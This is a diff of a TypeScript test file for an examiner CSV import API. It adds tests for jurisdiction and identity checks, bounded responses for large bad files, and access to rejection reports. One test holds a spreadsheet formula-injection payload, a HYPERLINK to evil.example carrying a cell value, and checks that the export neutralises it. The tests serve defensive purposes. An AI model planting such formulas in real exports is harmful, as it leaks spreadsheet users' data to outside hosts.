@@ -1,9 +1,9 @@
 import { WorkflowNotFoundError } from '@temporalio/client';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { IMPORT_COLUMNS } from '../../domain/examinerImport';
+import { IMPORT_COLUMNS, splitCsvLine } from '../../domain/examinerImport';
 import { examinerImportWorkflowId } from '../../workflows/examinerImport';
-import { examinerRow, generateExaminerCsv, toCsv, type ExaminerCsvRow } from '../support/examinerCsv';
-import { eventually, startHarness, type ApiResponse, type Harness } from '../support/harness';
+import { examinerRow, generateExaminerCsv, nationalId, postExaminerCsv, toCsv, type ExaminerCsvRow } from '../support/examinerCsv';
+import { eventually, startHarness, type Harness } from '../support/harness';
 
 /**
  * Bulk import of examiners from CSV: every row validated, the good ones written in one transaction, the
@@ -28,16 +28,7 @@ beforeAll(async () => {
 });
 afterAll(async () => h?.close());
 
-/** h.api always sends application/json with a body, so the CSV goes by fetch with the same token. */
-async function postCsv(csv: string, as = 'sup-1', headers: Record<string, string> = {}): Promise<ApiResponse> {
-  const res = await fetch(`${h.baseUrl}/v1/examiners/import`, {
-    method: 'POST',
-    headers: { authorization: `Bearer ${await h.token(as)}`, 'content-type': 'text/csv', ...headers },
-    body: csv,
-  });
-  const text = await res.text();
-  return { status: res.status, body: text ? JSON.parse(text) : undefined, headers: res.headers };
-}
+const postCsv = (csv: string, as = 'sup-1', headers: Record<string, string> = {}) => postExaminerCsv(h, csv, as, headers);
 
 const masked = (id: string) => `${id.slice(0, 6)}${'*'.repeat(8)}${id.slice(-4)}`;
 
@@ -63,6 +54,142 @@ async function workflowIds(query: string): Promise<Set<string>> {
   for await (const wf of h.temporal.workflow.list({ query })) found.add(wf.workflowId);
   return found;
 }
+
+describe('an import never rewrites people', () => {
+  /** What the register holds of an examiner: identity and status. */
+  const entry = (id: string) => h.db('examiners').where({ id }).first('name', 'organisation', 'email', 'national_id', 'status', 'region_code');
+  const reasonsByLine = (body: { rejected: Array<{ line: number; reasons: string[] }> }) => Object.fromEntries(body.rejected.map((r) => [r.line, r.reasons]));
+
+  it("refuses a Xiamen supervisor's row naming a Foshan examiner, whatever national id it gives, and leaves the examiner as they were", async () => {
+    const before = await entry('exam-1');
+    const held = await h.db('qualifications').where({ examiner_id: 'exam-1' }).pluck('id');
+    const seen = await h.api('GET', '/v1/examiners/exam-1', { as: 'sup-fs' });
+    const hijack = { examiner_id: 'exam-1', name: 'Attacker', email: 'attacker@xm.example', organisation: 'Xiamen Front Co', region_code: '350200' };
+    const res = await postCsv(toCsv([examinerRow(1, 'HX', { ...hijack, national_id: nationalId(4242) }), examinerRow(2, 'HX', { ...hijack, occupation_code: '6-31-01-03' })]), 'sup-xm');
+    expect(res.status, res.text).toBe(201);
+    expect(res.body).toMatchObject({ imported: 0, rejectedCount: 2, rejectedByReason: { 'outside jurisdiction': 2 } });
+    expect(reasonsByLine(res.body)).toEqual({ 2: ['outside jurisdiction'], 3: ['outside jurisdiction'] });
+    expect(await entry('exam-1')).toEqual(before);
+    expect(before).toMatchObject({ name: 'Xu Wei', status: 'active' });
+    expect(await h.db('qualifications').where({ examiner_id: 'exam-1' }).pluck('id')).toEqual(held);
+    expect((await h.api('GET', '/v1/examiners/exam-1', { as: 'sup-fs' })).body).toEqual(seen.body);
+  });
+
+  it('refuses a row naming an examiner the importer covers with another national id, or a user the register holds none for: identity mismatch', async () => {
+    const rows = [examinerRow(1, 'HF', { examiner_id: 'exam-1', email: 'attacker@fs.example', occupation_code: '6-31-01-03' }), examinerRow(2, 'HF', { examiner_id: 'sup-fs' })];
+    const res = await postCsv(toCsv(rows), 'sup-fs');
+    expect(res.status, res.text).toBe(201);
+    expect(res.body).toMatchObject({ imported: 0, rejectedByReason: { 'identity mismatch': 2 } });
+    expect(res.body.rejected[0].errors).toEqual(['national_id: not that of exam-1 in the register']);
+    expect(await h.db('examiners').where({ id: 'sup-fs' })).toEqual([]);
+    expect(await entry('exam-1')).toMatchObject({ name: 'Xu Wei', email: 'xu.wei@nanhai-machinery.example', status: 'active' });
+  });
+
+  it('adds a qualification to an examiner named with the right national id, changing neither their identity nor their status', async () => {
+    const first = examinerRow(1, 'KF', { occupation_code: '4-04-05-01' });
+    expect((await postCsv(toCsv([first]), 'sup-fs')).body).toMatchObject({ imported: 1, rejectedCount: 0, rejectionReport: null });
+    const before = await entry('KF-1');
+    expect(before).toMatchObject({ name: first.name, email: first.email, national_id: first.national_id, status: 'active', region_code: '440600' });
+
+    const again = examinerRow(2, 'KF', { examiner_id: 'KF-1', national_id: first.national_id, name: 'Renamed', email: 'renamed@attacker.example', organisation: 'Another Works', occupation_code: '6-31-01-03' });
+    const res = await postCsv(toCsv([again]), 'sup-fs');
+    expect(res.body, res.text).toMatchObject({ imported: 1, rejectedCount: 0 });
+    expect(await entry('KF-1')).toEqual(before);
+    expect((await h.db('qualifications').where({ examiner_id: 'KF-1' }).pluck('occupation_code')).sort()).toEqual(['4-04-05-01', '6-31-01-03']);
+    // Once its cycle has recorded itself, the examiner is still who they were.
+    await eventually(async () => ((await h.db('qualifications').where({ import_id: res.body.importId, version: 1 }).first('id')) ? true : undefined));
+    expect(await entry('KF-1')).toEqual(before);
+
+    // A suspended examiner stays suspended: an import does not hand them an active qualification.
+    await h.db('examiners').insert({ id: 'KF-9', name: 'Suspended Examiner', organisation: 'Foshan Works', email: 'kf9@fs.example', national_id: nationalId(9), region_code: '440600', status: 'suspended' });
+    const suspended = await postCsv(toCsv([examinerRow(9, 'KF')]), 'sup-fs');
+    expect(suspended.body).toMatchObject({ imported: 0, rejectedByReason: { 'examiner not active': 1 } });
+    expect(await entry('KF-9')).toMatchObject({ name: 'Suspended Examiner', status: 'suspended' });
+  });
+
+  it("refuses rows outside the importer's jurisdiction and takes those inside it", async () => {
+    const rows = [examinerRow(1, 'JX', { region_code: '350200' }), examinerRow(2, 'JX', { region_code: '440600' }), examinerRow(3, 'JX', { region_code: '350100' })];
+    const res = await postCsv(toCsv(rows), 'sup-xm');
+    expect(res.body, res.text).toMatchObject({ imported: 1, rejectedCount: 2, rejectedByReason: { 'outside jurisdiction': 2 } });
+    expect(reasonsByLine(res.body)).toEqual({ 3: ['outside jurisdiction'], 4: ['outside jurisdiction'] });
+    expect(await h.db('examiners').whereIn('id', ['JX-1', 'JX-2', 'JX-3']).pluck('id')).toEqual(['JX-1']);
+    // The machinery authority imports its occupations wherever the examiner is registered, and nothing else.
+    const machinery = await postCsv(toCsv([examinerRow(4, 'JX', { occupation_code: '6-18-01-01', region_code: '350200' }), examinerRow(5, 'JX', { occupation_code: '4-04-05-01' })]), 'sup-mach');
+    expect(machinery.body).toMatchObject({ imported: 1, rejectedByReason: { 'outside jurisdiction': 1 } });
+    expect(machinery.body.rejected.map((r: { line: number }) => r.line)).toEqual([3]);
+  });
+});
+
+describe('the answer to an import of bad rows', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
+
+  it('stays under 100 KB for a 5 MB body: counts by reason and the first 100 rows; the CSV report holds them all, formulas neutralised', async () => {
+    const rows: ExaminerCsvRow[] = [examinerRow(0, 'BIG', { name: FORMULA, email: 'not-an-email' })];
+    const expected: Record<string, number> = { 'invalid email': 1 };
+    const reasons = [
+      ['invalid email', { email: 'no-at-sign.example' }],
+      ['invalid level', { level: '9' }],
+      ['outside jurisdiction', { region_code: '440600' }],
+    ] as const;
+    let size = Buffer.byteLength(toCsv(rows));
+    for (let n = 1; size < 4_900_000; n++) {
+      const [reason, overrides] = reasons[n % reasons.length];
+      const row = examinerRow(n, 'BIG', { ...overrides, region_code: 'region_code' in overrides ? overrides.region_code : '350200' });
+      rows.push(row);
+      expected[reason] = (expected[reason] ?? 0) + 1;
+      size += Buffer.byteLength(toCsv([row])) - Buffer.byteLength(`${IMPORT_COLUMNS.join(',')}\n`);
+    }
+    const csv = toCsv(rows);
+    expect(Buffer.byteLength(csv)).toBeGreaterThan(4_800_000);
+    expect(Buffer.byteLength(csv)).toBeLessThan(5_000_000);
+
+    const res = await postCsv(csv, 'sup-xm', { 'idempotency-key': 'five-megabytes-of-bad-rows' });
+    expect(res.status, res.text.slice(0, 500)).toBe(201);
+    expect(Buffer.byteLength(res.text)).toBeLessThan(100_000);
+    expect(res.body).toMatchObject({ imported: 0, rejectedCount: rows.length, rejectedByReason: expected });
+    expect(res.body.rejected).toHaveLength(100);
+    expect(res.body.rejected.map((r: { line: number }) => r.line)).toEqual(Array.from({ length: 100 }, (_, i) => i + 2));
+    expect(res.body.rejected[0]).toEqual({ line: 2, reasons: ['invalid email'], errors: [expect.stringMatching(/^email: /)] });
+    const importId = res.body.importId as string;
+    expect(res.body.rejectionReport).toBe(`/v1/examiners/imports/${importId}/rejections.csv`);
+    // What the Idempotency-Key keeps for a replay is the same bounded answer.
+    const kept = await h.db('idempotency_keys').where({ idem_key: 'five-megabytes-of-bad-rows' }).first('response');
+    expect(Buffer.byteLength(String(kept.response))).toBeLessThan(100_000);
+
+    const download = await fetch(h.baseUrl + res.body.rejectionReport, { headers: { authorization: `Bearer ${await h.token('sup-xm')}` } });
+    expect(download.status).toBe(200);
+    expect(download.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(download.headers.get('content-disposition')).toBe(`attachment; filename="examiner-import-${importId}-rejections.csv"`);
+    const lines = (await download.text()).replace(/^\uFEFF/, '').split('\r\n').filter(Boolean).map(splitCsvLine);
+    expect(lines[0]).toEqual(['line', 'reasons', 'errors', ...IMPORT_COLUMNS]);
+    expect(lines).toHaveLength(rows.length + 1);
+    expect(lines.slice(1).map((l) => Number(l[0]))).toEqual(rows.map((_, i) => i + 2));
+    const name = 3 + IMPORT_COLUMNS.indexOf('name');
+    expect(lines[1][name]).toBe(`'${FORMULA}`);
+    expect(lines[1][3 + IMPORT_COLUMNS.indexOf('email')]).toBe('not-an-email');
+    expect(lines.at(-1)![3]).toBe(rows.at(-1)!.examiner_id);
+    expect(lines.slice(1).filter((l) => l[1] === 'outside jurisdiction')).toHaveLength(expected['outside jurisdiction']);
+  }, 120_000);
+
+  it('lets the importer and officials covering the import read the report; anyone else gets the 404 of an unknown import', async () => {
+    const res = await postCsv(toCsv([examinerRow(1, 'RP', { level: '0', region_code: '350200' })]), 'sup-xm');
+    const report = res.body.rejectionReport as string;
+    const get = async (path: string, as: string) => {
+      const r = await fetch(h.baseUrl + path, { headers: { authorization: `Bearer ${await h.token(as)}` } });
+      return { status: r.status, text: await r.text() };
+    };
+    for (const as of ['sup-xm', 'sup-fj', 'sup-1']) expect((await get(report, as)).status, as).toBe(200);
+    const unknown = '/v1/examiners/imports/01ARZ3NDEKTSV4RRFFQ69G5FAV/rejections.csv';
+    for (const as of ['sup-fs', 'sup-gd', 'sup-mach']) {
+      const [outside, missing] = [await get(report, as), await get(unknown, as)];
+      expect([outside.status, missing.status], as).toEqual([404, 404]);
+      expect(JSON.parse(outside.text)).toEqual({ error: { code: 'not_found', message: `no import ${res.body.importId}`, details: [] } });
+      expect(JSON.parse(missing.text)).toEqual({ error: { code: 'not_found', message: 'no import 01ARZ3NDEKTSV4RRFFQ69G5FAV', details: [] } });
+    }
+    const reviewer = await h.api('GET', report, { as: 'rev-2' });
+    expect(reviewer.status).toBe(403);
+  });
+});
 
 describe('examiner import', () => {
   // Good rows: two examiners, one of them in two occupations; bad rows: one reason each.
@@ -219,6 +346,9 @@ describe('examiner import', () => {
     `imports ${LARGE} rows in one request and starts their cycles a batch at a time`,
     async () => {
       const { csv: large, rows } = generateExaminerCsv(LARGE, 'L');
+      // The cycles of the file's earlier imports run on the same task queue, one per qualification.
+      // The cycles still running (the demo register's lapsed ones have ended).
+      const earlierCycles = Number((await h.db('qualifications').whereNotIn('status', ['lapsed', 'revoked', 'rejected']).count({ n: '*' }).first())?.n);
       expect(Buffer.byteLength(large)).toBeLessThan(5_000_000);
 
       const started = performance.now();
@@ -272,11 +402,11 @@ describe('examiner import', () => {
       const counted = await eventually(
         async () => {
           const { count } = await h.temporal.workflow.count(`WorkflowType = 'qualification' AND ExecutionStatus = 'Running' AND TaskQueue = '${h.taskQueue}'`);
-          return count >= LARGE + 3 ? count : ({ running: count } as never);
+          return count >= LARGE + earlierCycles ? count : ({ running: count } as never);
         },
         { timeoutMs: 60_000, intervalMs: 1000, until: (v) => typeof v === 'number' },
       );
-      expect(counted).toBe(LARGE + 3);
+      expect(counted).toBe(LARGE + earlierCycles);
       const spread = [ids[0], ids[Math.floor(LARGE / 2)], ids[LARGE - 1], ...sampleIds.slice(-3)];
       for (const id of spread) expect((await h.temporal.workflow.getHandle(`qualification:${id}`).describe()).status.name).toBe('RUNNING');
 
